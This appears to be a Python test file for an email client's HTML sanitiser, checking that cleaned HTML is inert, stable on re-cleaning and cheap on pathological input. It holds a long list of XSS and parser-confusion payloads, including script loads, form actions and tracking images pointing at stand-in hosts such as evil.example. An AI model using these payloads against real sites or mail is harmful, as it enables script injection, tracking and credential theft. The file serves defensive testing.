"""What strangers write as HTML can do nothing but be read, and is never lost."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from chatinbox.core.cleaning import _TAGS, clean_html, to_html, to_text
from chatinbox.core.css import safe_style

# Our own collection of what has been tried against cleaners: by tag, attribute, scheme, style, parser confusion.
HOSTILE = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script<script>>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x`onerror=alert(1)" `=">
<img/src/onerror=alert(1)>
<img src=javascript:alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea></textarea><img src=x onerror=alert(1)>
<title></title><img src=x onerror=alert(1)>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=//evil.example/x.swf>
<applet code=x></applet>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="jav&Tab;ascript:alert(1)">x</a>
<a href="JaVaScRiPt&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="/sign-out">x</a>
<a href="//evil.example">x</a>
<a href="#" onclick=alert(1)>x</a>
<a href="http://a.example" target=_top ping=//evil.example>x</a>
<area href=javascript:alert(1)>
<form action=//evil.example><input name=password type=password><button formaction=javascript:alert(1)>x</button></form>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option></select>
<video src=//evil.example/v poster=//evil.example/p><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1) background=//evil.example/b.png>
<table background=//evil.example/b.png><tr><td background=javascript:alert(1)>x</table>
<div style="background:url(//evil.example/p.png)">x</div>
<div style="background-image:url('//evil.example/p.png')">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style="-moz-binding:url(x.xml#x)">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>
<div style="color:red;\\70osition:fixed">x</div>
<div style="width:\\65xpression(alert(1))">x</div>
<div style="margin:-9999px">x</div>
<div style="font-size:9999px">x</div>
<div style="height:99999999px">x</div>
<div style="list-style:url(//evil.example/l)">x</div>
<div style="cursor:url(//evil.example/c),auto">x</div>
<div style="content:attr(x);--x:url(//evil.example)">x</div>
<div style="font-family:'};@import url(//evil.example)'">x</div>
<style>@import url(//evil.example/x.css);*{background:url(//evil.example/y)}</style>x
<style><!--</style><script>alert(1)//--></script>
<!--[if gte mso 9]><script>alert(1)</script><![endif]-->x
<!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>--!><img src=x onerror=alert(2)>
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=alert(1)>
<p id=x name=getElementById class=y>x
<img name=cookie id=location src=cid:1>
<img src=//spy.example/p.gif srcset="//spy.example/q.gif 2x">
<img src=" https://spy.example/p.gif">
<img src="h&#10;ttps://spy.example/p.gif">
<img data-remote-src="javascript:alert(1)" src=cid:x>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<picture><source srcset=//spy.example/p.gif><img src=cid:1></picture>
<image src=//spy.example/p.gif>
<input type=image src=//spy.example/p.gif>
<custom-element onclick=alert(1)>x</custom-element>
<a\x00 href="javascript:alert(1)">x</a>
<im\x00g src=x onerror=alert(1)>
\ufeff<script>alert(1)</script>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<div dir=rtl lang="x" onmouseover=alert(1)>x
<a href="https://ok.example/?a=1&lt;script&gt;">x</a>
<b <script>alert(1)</script>0
<<SCRIPT>alert(1);//<</SCRIPT>
"><img src=x onerror=alert(1)>
</div></body></html><script>alert(1)</script>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<dialog open onclose=alert(1)><portal src=//evil.example></dialog>
<p title="</p><script>alert(1)</script>">x
<td><img src=x onerror=alert(1)></td>
<font color="red;background:url(//evil.example)">x</font>
<ol start=99999999999><li value=1>x</ol>
<table width=99999999><td colspan=99999>x</table>
""".strip().split("\n")

ALLOWED = {
    "style", "dir", "lang", "title", "align", "valign", "width", "height", "bgcolor", "href", "src", "alt", "border",
    "data-remote-src", "color", "face", "size", "cellpadding", "cellspacing", "colspan", "rowspan", "start", "type", "rel",
    "target",
}  # fmt: skip


def assert_inert(cleaned: str) -> None:
    """Nothing but known tags with known attributes that fetch nothing and lead only where a person may click."""
    assert "\x00" not in cleaned
    if not cleaned.strip():
        return
    for element in lxml_html.fragment_fromstring(cleaned, create_parent="div").iter():
        assert element.tag in _TAGS, element.tag
        for name, value in element.attrib.items():
            assert name in ALLOWED, (element.tag, name)
            assert name != "href" or re.match(r"https?://|mailto:|tel:", value, re.I), value
            assert name != "src" or re.match(r"cid:|data:image/(png|jpe?g|gif|webp);base64,", value), value
            assert name != "data-remote-src" or re.match(r"https?://", value, re.I), value
            assert name != "style" or not re.search(
                r"url|expression|position|import|\\|@|behavior", value, re.I
            ), value


def told(cleaned: str) -> list[object]:
    """Elements, attributes (their order says nothing) and words."""
    document = lxml_html.fragment_fromstring(cleaned, create_parent="div")
    return [(e.tag, sorted(e.attrib.items()), e.text or "", e.tail or "") for e in document.iter()]


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_survives_and_cleaning_again_changes_nothing(payload: str) -> None:
    cleaned = clean_html(payload).html
    assert_inert(cleaned)
    assert told(clean_html(cleaned).html) == told(cleaned)


pieces = st.sampled_from([*HOSTILE, *(f"<{tag}>" for tag in sorted(_TAGS)), *(f"</{tag}>" for tag in sorted(_TAGS)), "<b x='", '">', "-->", "<!--", "&lt;", "\x00", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<title>", "]]>"])  # fmt: skip


@given(st.lists(pieces | st.text(max_size=8), max_size=12).map("".join))
@settings(max_examples=300)
def test_whatever_is_put_together_comes_out_inert(text: str) -> None:
    cleaned = clean_html(text)
    assert_inert(cleaned.html)
    assert_inert(clean_html(cleaned.html).html)
    assert isinstance(to_text(text), str)


@given(st.text(max_size=200))
@settings(max_examples=200)
def test_styles_never_fetch_or_leave_their_place(text: str) -> None:
    for value in (text, f"color:{text}", f"width:{text}", f"font-family:{text}", f"border:{text}"):
        assert not re.search(r"url\(|expression\(|\\|@|<|position", safe_style(value), re.I)


def test_pictures_of_other_servers_are_counted_and_not_loaded() -> None:
    cleaned = clean_html(
        '<img src="cid:a"><img src=https://a.example/1.png alt="Logo"><img src="//b.example/2.png?x=1&amp;y=2">'
    )
    assert cleaned.remote_pictures == 2
    assert (
        '<img src="cid:a">' in cleaned.html
        and 'data-remote-src="https://b.example/2.png?x=1&amp;y=2"' in cleaned.html
    )
    assert ' src="http' not in cleaned.html


def test_links_open_elsewhere_and_tell_nothing() -> None:
    assert clean_html('<a href="https://x.example/?a=1&b=2">x</a>').html == (
        '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )
    assert (
        'href="mailto:a@b.example?subject=a%20b"'
        in clean_html('<a href="mailto:a@b.example?subject=a b">x</a>').html
    )


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("color:#000000; font-size:12pt", "color: #000000; font-size: 12pt"),
        ("background:#fff url(x.png)", ""),
        ("background:#ffeecc", "background-color: #ffeecc"),
        ("border:1px solid #123456", "border: 1px solid #123456"),
        ("border-left: 1px solid rgb(204,204,204)", "border-left: 1px solid rgb(204,204,204)"),
        ("margin:0 auto;padding:5.0pt 0cm 0cm 0cm", "margin: 0 auto; padding: 5.0pt 0cm 0cm 0cm"),
        ('font-family:"Segoe UI",Arial,sans-serif !important', 'font-family: "Segoe UI",Arial,sans-serif'),
        ("font-weight:700;font-size:500px;margin:-5px", "font-weight: 700"),
        ("width:99999px;width:100%", "width: 100%"),
        ("mso-line-height-rule:exactly;line-height:150%", "line-height: 150%"),
        ("position:absolute;z-index:9;opacity:0", ""),
    ],
)
def test_colour_type_and_bounded_sizes_stay(given: str, kept: str) -> None:
    assert safe_style(given) == kept


def test_a_letters_style_sheet_is_written_into_its_elements() -> None:
    sheet = "p.MsoNormal, li {margin:0cm; font-size:11.0pt} @media print { p {color:red} } .a>.b{color:red} #top{color:#111}"
    cleaned = clean_html(
        f"<style><!-- {sheet} --></style><p class=MsoNormal style='color:#222'>x</p><p id=top>y</p>"
    ).html
    assert '<p style="margin: 0cm; font-size: 11.0pt; color: #222">x</p>' in cleaned
    assert '<p style="color: #111">y</p>' in cleaned and "red" not in cleaned


WILD = {
    "deep": "<div>" * 50_000 + "hello",
    "deep with false ends": "<div></x>" * 50_000 + "hello",
    "formatting reopened": "".join(f"<p><b a{i}=1>x" for i in range(20_000)) + "hello",
    "formatting in blocks": "".join(f"<div><font color={i}></div>x" for i in range(20_000)) + "hello",
    "formatting and tables": "<table><b><tr><i>" * 20_000 + "hello",
    "attributes": "<a " + " ".join(f"a{i}=1" for i in range(100_000)) + ">hello",
    "open tags": "<" * 900_000 + "hello",
    "open comments": "<!--" * 200_000 + "--> hello",
    "wide tables": "<table><tr><td>"
    + "x" * 100_000
    + "</td></tr>"
    + "<tr><td>y</td></tr>" * 30_000
    + "</table>hello",
    "large": "<p>word</p>" * 500_000 + "hello",
    "entities": "&amp" * 200_000 + "hello",
    "sheet": "<style>" + "p{color:red}" * 80_000 + "</style>" + "<p>hello</p>" * 1_000,
    "selectors": "<style>"
    + ",".join(f".a{i}" for i in range(20_000))
    + "{color:red}</style><p class='"
    + "a1 " * 50_000
    + "'>hello",
}


@pytest.mark.parametrize("name", WILD)
def test_wild_html_costs_little_and_is_still_read(name: str) -> None:
    began = time.process_time()
    cleaned, text = clean_html(WILD[name]), to_text(WILD[name])
    assert time.process_time() - began < 5
    assert_inert(cleaned.html)
    assert len(cleaned.html) < 8_000_000 and len(text) < 4_000_000
    if name not in ("open tags", "large"):
        assert "hello" in cleaned.html and "hello" in text


def test_text_is_read_in_the_order_of_the_letter_without_scripts_and_styles() -> None:
    text = "<style>p{}</style><title>t</title><h1>One</h1><table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table><ul><li>x<li>y</ul><p>Two<br>three<script>no</script>"
    told = to_text(text)
    assert [line for line in told.splitlines() if line] == ["One", "a b", "c", "* x", "* y", "Two", "three"]


@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=80))
def test_text_becomes_html_that_reads_the_same(text: str) -> None:
    made = to_html(text)
    assert_inert(made)
    plain = "".join(lxml_html.fragment_fromstring(made, create_parent="div").text_content().split())
    assert plain == "".join(text.split())


def test_links_in_text_become_links() -> None:
    assert '<a href="https://x.example/?a=1&amp;b=2">https://x.example/?a=1&amp;b=2</a>.' in to_html(
        "See https://x.example/?a=1&b=2."
    )
